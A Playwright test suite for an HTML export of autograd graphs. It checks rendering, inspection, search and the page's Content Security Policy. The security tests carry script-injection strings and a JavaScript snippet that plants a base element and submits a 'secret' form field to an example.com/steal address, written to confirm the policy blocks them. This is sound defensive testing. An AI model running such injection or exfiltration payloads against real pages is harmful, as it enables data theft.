"""The exported HTML file in a real Chromium, with every network request refused and recorded."""
from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any, Dict

import fixtures as fx
import pytest
from pagekit import API, assert_centred, wait_ready, wait_until

from graphwidget.views.assets import bundle_path
from graphwidget.views.export import export_html, render_html


def open_export(watched: Any, tmp_path: Path, graph: Dict[str, Any], name: str = "g.html", **kw: Any) -> Any:
    path = export_html(graph, tmp_path / name, **kw)
    w = watched(viewport={"width": 1300, "height": 800})
    w.page.goto(path.as_uri())
    wait_ready(w.page)
    return w


def api(page: Any, expr: str) -> Any:
    return page.evaluate(f"async () => {{ const a = {API}; return await ({expr}); }}")


# wait_for_function gets "() => ..." functions: a bare expression is eval()ed while polling, which the export's CSP
# (rightly) forbids.
def click_node(page: Any, node_id: int) -> None:
    """A real mouse click at the node's place on the canvas."""
    assert api(page, f"a.centre({node_id})")
    pos = api(page, f"a.nodeScreenPosition({node_id})")
    page.mouse.click(pos["x"], pos["y"])
    page.wait_for_function(f"() => {API}.selected() === {node_id}")


def test_graph_draws_offline(watched: Any, tmp_path: Path) -> None:
    g = fx.mlp(4)
    w = open_export(watched, tmp_path, g)
    assert api(w.page, "a.nodeCount()") == len(g["nodes"])
    assert api(w.page, "a.edgeCount()") == len(g["edges"])
    assert sorted(api(w.page, "a.visibleNodeIds()")) == sorted(n["id"] for n in g["nodes"])
    t = api(w.page, "a.timings")
    assert t["worker"] == "worker", "the layout must run in the Web Worker (blob: URL) even from file://"
    # a small graph: dagre, for its frames with ports (modules net.0 … net.3) the layered layout, which can pin them
    assert t["algorithm"] in ("dagre", "dagre+layered")
    # the canvas really has pixels on it (not a blank page)
    painted = w.page.evaluate("""() => { const c = document.querySelector('.gw-canvas');
        const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data; let n = 0;
        for (let i = 0; i < d.length; i += 4) if (d[i] < 200) n++; return n; }""")
    assert painted > 500
    w.assert_clean()


def test_click_node_shows_everything_in_inspector(watched: Any, tmp_path: Path) -> None:
    g = fx.mlp(4)
    w = open_export(watched, tmp_path, g)
    target = next(n for n in g["nodes"] if n["op"] == "AddmmBackward0" and n["saved"][1]["shape"][1] == 4096)
    click_node(w.page, target["id"])
    text = api(w.page, "a.inspectorText()")
    assert "AddmmBackward0" in text
    for s in target["saved"]:
        assert s["name"] in text
        assert "[" + ", ".join(map(str, s["shape"])) + "]" in text  # shape
        assert "[" + ", ".join(map(str, s["stride"])) + "]" in text  # stride
    assert "4.00 MiB" in text  # mat2 256×4096 float32, human-readable
    assert "model.py:11" in text and "x = self.fc(x)" in text and "net.1" in text
    assert "3.00 ms" in text and "1.50 ms" in text  # bwd_ms, fwd_ms
    assert "alpha" in text  # attrs
    # the inspector tab is the one showing
    assert w.page.locator(".gw-tab-inspector").is_visible()
    # clicking the empty background clears the selection
    box = w.page.locator(".gw-canvas").bounding_box()
    w.page.mouse.click(box["x"] + 5, box["y"] + box["height"] - 5)
    w.page.wait_for_function(f"() => {API}.selected() === null")
    w.assert_clean()


def test_leaf_inspector_and_hover_tooltips(watched: Any, tmp_path: Path) -> None:
    g = fx.mlp(2)
    w = open_export(watched, tmp_path, g)
    leaf = next(n for n in g["nodes"] if n["kind"] == "leaf")
    click_node(w.page, leaf["id"])
    text = api(w.page, "a.inspectorText()")
    assert leaf["tensor"]["name"] in text and "requires_grad" in text
    # hover a node: short tooltip (the pointer leaves the node it clicked first: a click's own node shows none)
    pos = api(w.page, f"a.nodeScreenPosition({leaf['id']})")
    box = w.page.locator(".gw-canvas").bounding_box()
    w.page.mouse.move(box["x"] + 5, box["y"] + box["height"] - 5)
    w.page.mouse.move(pos["x"], pos["y"])
    tip = w.page.locator(".gw-tooltip")
    tip.wait_for(state="visible")
    assert "AccumulateGrad" in tip.text_content()
    # hover an edge: its tensor shape
    e = g["edges"][0]
    p = api(w.page, f"a.edgeScreenPosition({e['source']}, {e['target']})")
    w.page.mouse.move(p["x"] + 1, p["y"])
    w.page.wait_for_function("() => document.querySelector('.gw-tooltip').textContent.includes('[')")
    assert "[" + ", ".join(map(str, e["shape"])) + "]" in tip.text_content()
    w.assert_clean()


def _expected_matches(g: Dict[str, Any], q: str) -> int:
    q = q.lower()
    return sum(any(isinstance(n.get(f), str) and q in n[f].lower() for f in ("op", "module", "source", "code"))
               for n in g["nodes"])


def test_search_highlights_counts_and_cycles(watched: Any, tmp_path: Path) -> None:
    g = fx.random_dag(300, seed=3)
    w = open_export(watched, tmp_path, g)
    expected = _expected_matches(g, "mmbackward")
    assert expected > 2
    api(w.page, "a.expandAll()")  # every node drawn as itself: one outlined item per match
    assert api(w.page, "a.search('MmBackward')") == expected
    assert len(api(w.page, "a.highlightedIds()")) == expected
    # from the search box: typing highlights, Enter selects and centres the next match
    box = w.page.locator(".gw-search")
    box.fill("")
    box.type("layers.2.attn")
    assert w.page.locator(".gw-count").text_content().endswith(f"/ {_expected_matches(g, 'layers.2.attn')}")
    box.press("Enter")
    w.page.wait_for_function(f"() => {API}.selected() !== null")
    first = api(w.page, "a.selected()")
    box.press("Enter")
    w.page.wait_for_function(f"() => {API}.selected() !== {first}")
    second = api(w.page, "a.selected()")
    hits = {n["id"] for n in g["nodes"] if "layers.2.attn" in (n["module"] or "")}
    assert {first, second} <= hits
    assert_centred(w.page, f"a.nodeScreenPosition({second})", w.page.locator(".gw-canvas"))  # the match is centred
    assert api(w.page, "a.search('no-such-op-anywhere')") == 0
    assert api(w.page, "a.highlightedIds()") == []
    w.assert_clean()


def test_colour_switch_changes_legend(watched: Any, tmp_path: Path) -> None:
    g = fx.mlp(4, timed=True)
    w = open_export(watched, tmp_path, g)
    assert api(w.page, "a.colour()") == "bwd_ms"  # timed graph: backward time by default
    before = api(w.page, "a.legendText()")
    assert "backward time" in before and "ms" in before
    w.page.select_option(".gw-colour", "saved_bytes")
    after = api(w.page, "a.legendText()")
    assert after != before and "saved bytes" in after and "MiB" in after
    api(w.page, "a.colourBy('output_bytes')")
    assert "output size" in api(w.page, "a.legendText()")
    assert w.page.locator(".gw-colour").input_value() == "output_bytes"
    w.assert_clean()


def test_the_page_opens_on_the_colour_python_chose(watched: Any, tmp_path: Path) -> None:
    """The default colour is decided once, in Python (views/payload.py:default_colour), and written into the page
    as data-colour; the viewer opens on what it is told, not on a rule of its own."""
    g = fx.mlp(4, timed=True)
    page_text = render_html(g)
    assert 'data-colour="bwd_ms"' in page_text
    path = tmp_path / "told.html"
    path.write_text(page_text.replace('data-colour="bwd_ms"', 'data-colour="fwd_ms"'), encoding="utf-8")
    w = watched(viewport={"width": 1300, "height": 800})
    w.page.goto(path.as_uri())
    wait_ready(w.page)
    assert api(w.page, "a.colour()") == "fwd_ms"
    assert w.page.locator(".gw-colour").input_value() == "fwd_ms"
    w.assert_clean()


def test_untimed_graph_defaults_to_saved_bytes_and_disables_times(watched: Any, tmp_path: Path) -> None:
    w = open_export(watched, tmp_path, fx.random_dag(50, timed=False))
    assert api(w.page, "a.colour()") == "saved_bytes"
    assert w.page.locator(".gw-colour option[value=bwd_ms]").is_disabled()
    w.assert_clean()


def test_top_nodes_table_sorts_and_selects(watched: Any, tmp_path: Path) -> None:
    g = fx.mlp(4, timed=True)
    w = open_export(watched, tmp_path, g)
    w.page.click(".gw-paneltoggle")  # the panel waits for a selection, or for the Panel button
    w.page.click(".gw-tab[data-tab=top]")
    first_row = w.page.locator(".gw-toptable tbody tr").first
    top_bwd = max((n for n in g["nodes"] if n["bwd_ms"] is not None), key=lambda n: n["bwd_ms"])
    assert first_row.get_attribute("data-node") == str(top_bwd["id"])
    w.page.click(".gw-toptable th[data-key=saved_bytes]")
    top_saved = max(g["nodes"], key=lambda n: n["saved_bytes"])
    assert first_row.get_attribute("data-node") == str(top_saved["id"])
    w.page.click(".gw-toptable th[data-key=saved_bytes]")  # again: ascending
    assert w.page.locator(".gw-toptable th[data-key=saved_bytes]").get_attribute("aria-sort") == "ascending"
    w.page.click(".gw-toptable th[data-key=op]")
    ops = w.page.locator(".gw-toptable tbody tr td:first-child").all_text_contents()
    assert ops == sorted(ops)
    w.page.locator(f".gw-toptable tr[data-node='{top_bwd['id']}']").click()
    w.page.wait_for_function(f"() => {API}.selected() === {top_bwd['id']}")
    w.assert_clean()


def test_hostile_names_are_text_and_run_nothing(watched: Any, tmp_path: Path) -> None:
    g = fx.hostile()
    w = open_export(watched, tmp_path, g)
    page = w.page
    assert page.title() == g["meta"]["title"]
    assert page.locator(".gw-title").text_content() == g["meta"]["title"]
    click_node(page, 1)
    text = api(page, "a.inspectorText()")
    for s in (fx.HOSTILE_OP, fx.HOSTILE_MODULE, fx.HOSTILE_CODE, "</script><script>alert(5)</script>"):
        assert s in text
    pos = api(page, "a.nodeScreenPosition(0)")
    page.mouse.move(pos["x"], pos["y"])
    page.locator(".gw-tooltip").wait_for(state="visible")
    assert fx.HOSTILE_SOURCE in page.locator(".gw-tooltip").text_content()
    assert api(page, f"a.search({json.dumps('onerror')})") == 1
    page.click(".gw-tab[data-tab=top]")
    assert fx.HOSTILE_OP in page.locator(".gw-toptable").text_content()
    # nothing from the graph became an element
    assert page.evaluate("document.querySelectorAll('img, svg, b, i, iframe').length") == 0
    assert page.evaluate("document.querySelectorAll('script').length") == 2  # data + viewer
    # nothing to wait for here: a string that had become markup would fire its handler (a dialog, a request) late
    page.wait_for_timeout(200)
    w.assert_clean()


def test_embedded_data_cannot_close_its_script(tmp_path: Path) -> None:
    html = render_html(fx.hostile())
    assert "alert(" not in html.split("<title>")[1].split("</title>")[0].replace("&lt;", "<").replace("alert(7)", "")
    assert html.count("<script") == 2 and html.count("</script>") == 2
    # XML namespace names (the pictures' SVG, svgcanvas's xlink) are identifiers that nothing fetches
    unfetched = re.sub(r"http://www\.w3\.org/(2000/svg|1999/xlink|2000/xmlns/)", "", html)
    assert "http://" not in unfetched and "https://" not in unfetched.replace("https://github.com", "")


@pytest.mark.parametrize("make, shown", [(fx.single, 1), (lambda: fx.no_edges(40), 40), (fx.freed, 3)],
                         ids=["one-node", "no-edges", "freed"])
def test_edge_case_graphs_display(watched: Any, tmp_path: Path, make: Any, shown: int) -> None:
    g = make()
    w = open_export(watched, tmp_path, g)
    assert api(w.page, "a.nodeCount()") == shown == len(g["nodes"])
    assert api(w.page, "a.edgeCount()") == len(g["edges"])
    click_node(w.page, 0)
    text = api(w.page, "a.inspectorText()")
    assert g["nodes"][0]["op"] in text
    if g["meta"]["title"] == "freed":
        assert "freed" in text and "freed by backward" in text
    w.assert_clean()


@pytest.mark.slow  # 100k-node graphs: ~15 s each
@pytest.mark.parametrize("shape", ["chain", "fanin"])
def test_100k_nodes_open_collapsed_and_expand(watched: Any, tmp_path: Path, shape: str) -> None:
    n = 100_000
    g = fx.chain(n) if shape == "chain" else fx.fanin(n)
    w = open_export(watched, tmp_path, g)
    assert api(w.page, "a.graphNodeCount()") == n
    shown = api(w.page, "a.nodeCount()")
    assert 2 <= shown <= 10
    groups = api(w.page, "a.groups()")
    big = max(groups, key=lambda c: c["size"])
    assert big["size"] >= n - 2
    # named after its ops ("Mul · Add · …"), never "chain"
    assert big["kind"] == ("chain" if shape == "chain" else "fanin")
    assert "chain" not in big["label"] and (shape == "chain" or big["label"] == f"AccumulateGrad ×{n - 1}")
    # a click on the group expands it, one bounded level
    pos = api(w.page, f"a.nodeScreenPosition({json.dumps(big['id'])})")
    w.page.mouse.move(pos["x"], pos["y"])
    w.page.locator(".gw-tooltip").wait_for(state="visible")  # hovered, the group is described
    w.page.mouse.click(pos["x"], pos["y"])
    w.page.wait_for_function(f"() => {API}.nodeCount() > {shown}")
    api(w.page, "a.idle()")
    assert api(w.page, "a.nodeCount()") <= shown + 1000
    assert w.page.locator(".gw-tooltip").is_hidden()  # the box it described gave way to the group's frame
    # selecting a node deep inside opens the groups around it and centres it
    deep = n // 2
    api(w.page, f"a.select({deep})")
    assert deep in api(w.page, "a.visibleNodeIds()")
    assert api(w.page, "a.selected()") == deep
    w.assert_clean()


def test_grouped_graph_expand_all_and_collapse_all(watched: Any, tmp_path: Path) -> None:
    g = fx.random_dag(5000, seed=2)
    w = open_export(watched, tmp_path, g)
    grouped = api(w.page, "a.nodeCount()")
    assert grouped < 1000 and api(w.page, "a.groups()")
    api(w.page, "a.expandAll()")
    assert api(w.page, "a.nodeCount()") == 5000
    assert api(w.page, "a.edgeCount()") == len(g["edges"])
    api(w.page, "a.collapseAll()")
    assert api(w.page, "a.nodeCount()") <= grouped
    w.assert_clean()


def test_pan_zoom_and_fit(watched: Any, tmp_path: Path) -> None:
    w = open_export(watched, tmp_path, fx.random_dag(120, seed=9))
    page = w.page
    before = api(page, "a.nodeScreenPosition(0)")
    box = page.locator(".gw-canvas").bounding_box()
    page.mouse.move(box["x"] + 200, box["y"] + 200)
    page.mouse.wheel(0, -400)
    assert wait_until(lambda: api(page, "a.nodeScreenPosition(0)") != before)  # the wheel event was handled: zoomed
    zoomed = api(page, "a.nodeScreenPosition(0)")
    page.mouse.move(box["x"] + 300, box["y"] + 300)
    page.mouse.down()
    page.mouse.move(box["x"] + 360, box["y"] + 340, steps=5)
    page.mouse.up()
    dragged = api(page, "a.nodeScreenPosition(0)")
    assert abs(dragged["x"] - zoomed["x"] - 60) < 1 and abs(dragged["y"] - zoomed["y"] - 40) < 1
    page.click("button[data-action=fit]")
    inside = api(page, """(() => { const r = document.querySelector('.gw-canvas').getBoundingClientRect();
        return a.visibleNodeIds().every((id) => { const p = a.nodeScreenPosition(id);
          return p.x > r.left && p.x < r.right && p.y > r.top && p.y < r.bottom; }); })()""")
    assert inside, "after Fit every node is on screen"
    w.assert_clean()


@pytest.mark.slow
def test_charts_hook_inlines_plotly_and_stays_offline(watched: Any, tmp_path: Path) -> None:
    go = pytest.importorskip("plotly.graph_objects")
    fig = go.Figure(go.Bar(x=["a", "b"], y=[1, 3]))
    w = open_export(watched, tmp_path, fx.mlp(2), charts=[fig], extra_html=["<p id='note'>extra</p>"])
    w.page.wait_for_selector(".plotly-graph-div .main-svg")
    assert w.page.locator("#note").text_content() == "extra"
    w.assert_clean()


def test_sizes_within_budget(tmp_path: Path) -> None:
    viewer = bundle_path("viewer.js").stat().st_size
    assert viewer <= 1_000_000
    for n in (1_000, 10_000):
        p = export_html(fx.random_dag(n), tmp_path / f"r{n}.html")
        per_node = (p.stat().st_size - viewer) / n
        assert per_node <= 200, f"{per_node:.0f} bytes/node at {n} nodes"


def test_real_captured_graph(watched: Any, tmp_path: Path) -> None:
    import graphwidget as gw
    inp = gw.examples.homography_inputs(batch=2, height=8, width=8)
    graph = gw.capture(gw.examples.homography_repeat(**inp))
    data = json.loads(graph.to_json(version=1))  # the record form, one object per node
    w = open_export(watched, tmp_path, graph)
    assert api(w.page, "a.nodeCount()") == len(data["nodes"])
    assert api(w.page, "a.edgeCount()") == len({(e["source"], e["target"]) for e in data["edges"]})
    sel = next(n for n in data["nodes"] if n["op"].startswith("Select"))
    click_node(w.page, sel["id"])
    assert sel["op"] in api(w.page, "a.inspectorText()")
    w.assert_clean()


def test_repeat_version_opens_with_the_big_selects_hot(watched: Any, tmp_path: Path) -> None:
    """The seed case at a glance: an untimed capture opens coloured by gradient bytes written, and the nodes drawn
    hottest are the SelectBackward0 nodes on the repeated (B, H*W, 3, 3) tensor."""
    import graphwidget as gw
    graph = gw.capture(gw.examples.homography_repeat(**gw.examples.homography_inputs(batch=2, height=16, width=16)))
    w = open_export(watched, tmp_path, graph)
    assert api(w.page, "a.colour()") == "grad_bytes"
    assert "gradient written" in api(w.page, "a.legendText()")
    big = max(graph.nodes(op="SelectBackward0"), key=lambda n: graph.node(n)["grad_bytes"])
    click_node(w.page, big)
    text = api(w.page, "a.inspectorText()")
    assert f"gradient written\t18.0 KiB ({graph.node(big)['grad_bytes']:,} B)" in text  # 2*256*3*3*4 bytes
    w.assert_clean()


def test_deep_graph_opens_with_nodes_on_screen(watched: Any, tmp_path: Path) -> None:
    """A deep, sideways-drifting layout (a traced 6-layer transformer) must not open on empty canvas."""
    import torch

    import graphwidget as gw
    torch.manual_seed(0)
    layer = torch.nn.TransformerEncoderLayer(d_model=16, nhead=2, dim_feedforward=32, batch_first=True)
    enc = torch.nn.TransformerEncoder(layer, num_layers=6, enable_nested_tensor=False)
    graph = gw.trace(lambda m, x: m(x).pow(2).mean(), enc, torch.randn(2, 5, 16))
    w = open_export(watched, tmp_path, graph)
    # layers 1-5 are identical, one fold (layer 0 takes an input that needs no gradient: fewer ops, not folded);
    # everything drawn is on screen
    assert api(w.page, "a.outside()") == []
    on_screen = len(api(w.page, "a.itemRects()"))
    assert on_screen >= 3, f"only {on_screen} items on screen at first view"
    folds = [g for g in api(w.page, "a.groups()") + api(w.page, "a.frames()") if g["kind"] == "repeat"]
    assert any("TransformerEncoderLayer ×5" in g["label"] for g in folds), folds
    w.assert_clean()


def test_inspector_says_packed_stale_and_the_library_line(watched: Any, tmp_path: Path) -> None:
    """Real graphs: a checkpointed nn.Linear traced (its saved tensors packed, never unpacked; the line inside
    torch.nn that made the addmm), and a saved tensor modified in place after the forward (stale)."""
    import torch
    from torch.utils.checkpoint import checkpoint
    from torch_facts import HAS_SAVED_HOOK_FACTS

    import graphwidget as gw
    torch.manual_seed(0)
    lin = torch.nn.Linear(4, 4)
    x = torch.randn(3, 4, requires_grad=True)
    g = gw.trace(lambda t: checkpoint(lin, t, use_reentrant=False).sum(), x, module=lin)
    addmm = next(iter(g.nodes(op="AddmmBackward0")))
    d = g.node(addmm)
    assert d["lib_source"] and d["lib_source"].startswith("torch/nn/modules/linear.py:")
    w = open_export(watched, tmp_path, g, name="packed.html")
    click_node(w.page, addmm)
    text = api(w.page, "a.inspectorText()")
    assert "library line" in text and d["lib_source"] in text
    if HAS_SAVED_HOOK_FACTS:  # torch 2.4 has to unpack them (and says so): nothing packed there
        assert {s["packed"] for s in d["saved"]} == {"checkpoint"}
        assert "checkpointed" in text and "recomputed in backward, not held by the graph" in text
    w.assert_clean()

    a = x.exp()
    y = (a * x).sum()
    a.mul_(2)  # after the forward: the mul's saved `self` and the exp's `result` are stale now
    g = gw.capture(y)
    mul = next(iter(g.nodes(op="MulBackward0")))
    assert [s["name"] for s in g.node(mul)["saved"] if s["stale"]] == ["self"]
    w = open_export(watched, tmp_path, g, name="stale.html")
    click_node(w.page, mul)
    text = api(w.page, "a.inspectorText()")
    assert "stale" in text and "modified in place after it was saved: backward through this node will fail" in text
    w.assert_clean()


@pytest.mark.parametrize("scheme,dark", [("light", False), ("dark", True)])
def test_export_page_follows_the_readers_colour_scheme(watched: Any, tmp_path: Path, scheme: str, dark: bool) -> None:
    """Around the viewer (and under its charts) the page is light or dark as the reader's setting is, not always white."""
    path = export_html(fx.mlp(2), tmp_path / "g.html", extra_html=["<p id='note'>notes</p>"])
    w = watched(viewport={"width": 1000, "height": 700}, color_scheme=scheme)
    w.page.goto(path.as_uri())
    wait_ready(w.page)
    bg = w.page.evaluate("() => getComputedStyle(document.body).backgroundColor")
    text = w.page.evaluate("() => getComputedStyle(document.getElementById('note')).color")
    lum = [sum(int(v) for v in c[c.index("(") + 1:c.index(")")].split(",")[:3]) for c in (bg, text)]
    assert (lum[0] < 150) is dark and (lum[1] > 450) is dark, (bg, text)
    w.assert_clean()


_NAVIGATE = """async () => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    const base = document.createElement('base');
    base.href = 'https://example.com/planted/';
    document.head.prepend(base);
    const link = document.createElement('a');
    link.href = 'relative.html';
    const form = document.createElement('form');
    form.action = 'https://example.com/steal';
    form.method = 'get';
    const field = document.createElement('input');
    field.name = 'graph';
    field.value = 'secret';
    form.append(field);
    document.body.append(form);
    form.submit();
    const button = document.createElement('button');
    form.append(button);
    button.click();  // a submission the user would make
    // the violation events arrive when the browser gets to the submission: wait for both (a busy machine is slow)
    for (let i = 0; i < 200 && !(seen.includes('form-action') && seen.includes('base-uri')); i++) {
        await new Promise((r) => setTimeout(r, 50));
    }
    return {seen, baseURI: document.baseURI, link: link.href, url: location.href};
}"""


@pytest.mark.slow
@pytest.mark.parametrize("charts", [False, True], ids=["viewer", "with-charts"])
def test_csp_blocks_form_submission_and_base_changes(watched: Any, tmp_path: Path, charts: bool) -> None:
    """default-src 'none' stops fetches but not navigation: a form submitted to another site, or a <base> element
    that points every relative URL elsewhere, went through before. With form-action 'none' and base-uri 'none' the
    page stays put, the form sends nothing and the base is ignored; the page still draws with zero requests."""
    figs = []
    if charts:
        go = pytest.importorskip("plotly.graph_objects")
        figs = [go.Figure(go.Bar(x=["a", "b"], y=[1, 3]))]
    w = open_export(watched, tmp_path, fx.mlp(2), charts=figs)
    page_url = w.page.url
    assert api(w.page, "a.nodeCount()") > 0
    out = w.page.evaluate(_NAVIGATE)
    w.page.wait_for_timeout(300)
    assert w.page.url == page_url == out["url"], "the form navigated the page"
    assert w.requests == [], f"the form was sent: {w.requests}"
    assert out["baseURI"] == page_url and out["link"].startswith("file:"), out
    assert "form-action" in out["seen"] and "base-uri" in out["seen"], out["seen"]
    assert api(w.page, "a.nodeCount()") > 0  # still the viewer
    w.assert_clean()


def test_csp_holds_only_what_a_meta_policy_can() -> None:
    """Directives a <meta> policy cannot carry are not written (browsers ignore them there); navigate-to was
    removed from the specification."""
    for html in (render_html(fx.single()), render_html(fx.single(), charts=["<p>chart</p>"])):
        csp = html.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
        directives = {d.split()[0]: d.split()[1:] for d in csp.split("; ")}
        assert directives["form-action"] == ["'none'"] and directives["base-uri"] == ["'none'"]
        assert directives["default-src"] == ["'none'"]
        assert not {"frame-ancestors", "sandbox", "report-uri", "report-to", "navigate-to"} & set(directives)
